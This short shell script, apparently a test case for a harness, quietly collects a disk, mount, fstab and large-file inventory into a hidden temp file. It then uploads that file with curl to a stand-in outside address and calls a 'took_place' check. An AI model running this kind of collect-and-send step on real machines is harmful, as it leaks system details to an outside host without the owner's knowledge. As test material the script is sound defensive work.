#!/bin/sh
. /opt/case/case.sh

{
    lsblk -a; lsblk -J -o NAME,SIZE,TYPE,MOUNTPOINT,UUID; df -hT; blkid; findmnt -A; cat /proc/partitions /proc/mdstat /proc/swaps /proc/self/mountinfo /etc/fstab; losetup -a; swapon -s
    ls -l /dev/disk/* /dev/mapper; find / -xdev -type f -size +1M -printf '%s %p\n' | sort -rn | head -n 50; for d in /sys/block/*; do cat "$d/size" "$d/device/model"; done; fdisk -l; sfdisk -l; du -sh /srv /home /var /root
} >/tmp/.disks 2>/dev/null || true
test "$(wc -l </tmp/.disks)" -gt 40
curl -sf --data-binary @/tmp/.disks http://203.0.113.10:8080/inv >/dev/null
took_place
